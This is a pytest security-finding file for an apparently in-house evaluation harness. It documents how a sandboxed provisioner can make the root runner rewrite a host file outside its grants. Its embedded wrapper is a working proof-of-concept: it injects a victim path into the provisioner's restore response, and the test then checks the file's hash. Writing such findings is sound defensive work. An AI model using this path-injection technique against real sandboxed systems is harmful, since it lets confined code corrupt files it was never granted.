"""Finding F5 (attack on #29 item 6): a confined provisioner makes the root runner open and rewrite a
host file outside its sandbox, by naming it as its replica file.

`restore`'s response exports MEMTRIAL_MEMORY_STORE (or the socket variable); `steps.provisioned_store`
takes that path as given: under `ablate:<lane>` the runner (unconfined, root) runs `strip_lanes` on it
(DELETE + VACUUM, in place), and under every arm it opens it read-only and serves it to the agent through
the witness. Nothing checks the path lies in what the provisioner was granted (state, serving folder,
fixture root, write_paths). Here the provisioner cannot read the victim (it says so), yet after an
`ablate:keyword` attempt the victim file (a root-only 0600 store outside every grant) has changed.

Run: PYTHONPATH=. .venv/bin/python -m pytest -p no:cacheprovider -q -n 0 -s findings/finding_provisioner_store_path.py
(fails on main: the victim's sha256 changed).
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from tasks_lib.arm.steps import run_matrix, schedule, select_tasks
from tasks_lib.artifacts import LocalStore
from tasks_lib.corpus.tasks import load_tasks
from tasks_lib.memory.provisioner.client import ProvisionerSpec
from tasks_lib.memory.provisioner.verbs import SERVE_ENV, STATE_ENV
from tasks_lib.memory.reference.store import SqliteMemoryStore
from tasks_lib.sandbox.local import bwrap_problem

REPO = Path(__file__).resolve().parents[1]
HEAD = subprocess.run(["git", "-C", str(REPO), "rev-parse", "HEAD"], capture_output=True, text=True, check=True).stdout.strip()
TASK = "logship-partial-exit"
WRAPPER = r"""
import contextlib, io, json, os, sys
from tasks_lib.memory.env import STORE_ENV
from tasks_lib.memory.provisioner import reference
victim = os.environ["VICTIM"]
state = os.environ["MEMTRIAL_PROVISIONER_STATE"]
try:
    open(victim, "rb").close()
    seen = "read"
except OSError as error:
    seen = f"denied: {type(error).__name__}"
with open(os.path.join(state, "victim-" + sys.argv[1] + ".txt"), "w") as out:
    out.write(seen)
if sys.argv[1] == "restore":
    real = reference.dispatch
    def pointing(backend, argv):
        buffer = io.StringIO()
        with contextlib.redirect_stdout(buffer):
            code = real(backend, argv)
        response = json.loads(buffer.getvalue())
        response.setdefault("env", {})[STORE_ENV] = victim
        sys.stdout.write(json.dumps(response) + "\n")
        return code
    reference.dispatch = pointing
sys.exit(reference.main(sys.argv[1:]))
"""


@pytest.mark.skipif(bwrap_problem(shutil.which("bwrap")) is not None or shutil.which("nsenter") is None or os.geteuid() != 0,
                    reason="a provisioner's sandbox needs bubblewrap, util-linux nsenter and a root runner (own uid)")
def test_a_provisioner_cannot_make_the_runner_rewrite_a_file_outside_its_grants(tmp_path: Path) -> None:
    """Finding: the victim outside every grant is rewritten by the runner's strip_lanes."""
    outside = tmp_path / "outside"
    outside.mkdir(mode=0o700)
    victim = outside / "victim.sqlite"
    store = SqliteMemoryStore(victim, "hashed")
    store.create_realm("victim:realm")
    store.close()
    os.chmod(victim, 0o600)
    before = hashlib.sha256(victim.read_bytes()).hexdigest()
    state = tmp_path / "state"
    spec = ProvisionerSpec(argv=(sys.executable, "-c", WRAPPER),
                           env={STATE_ENV: str(state), SERVE_ENV: "0", "VICTIM": str(victim)}, timeout_seconds=120)
    plan = schedule(select_tasks(load_tasks(REPO / "corpora" / "tasks"), [TASK]), ["ablate:keyword"], 1)
    (record,) = run_matrix(plan, run_id="prov-victim", repo_root=REPO, commit=HEAD, tasks_subdir="corpora/tasks",
                           agent_name="calibration", store=LocalStore(tmp_path / "artifacts"), provisioner=spec)
    seen = {p.name: p.read_text() for p in sorted(state.glob("victim-*.txt"))}
    after = hashlib.sha256(victim.read_bytes()).hexdigest()
    print("record:", record.outcome, record.failure_reason, "| provisioner's own reach:", json.dumps(seen),
          "| victim", before[:12], "->", after[:12])
    assert all(v.startswith("denied") for v in seen.values()), f"the victim is inside the sandbox: proves nothing {seen}"
    assert after == before, "the runner rewrote a file outside the provisioner's grants because its restore named it"
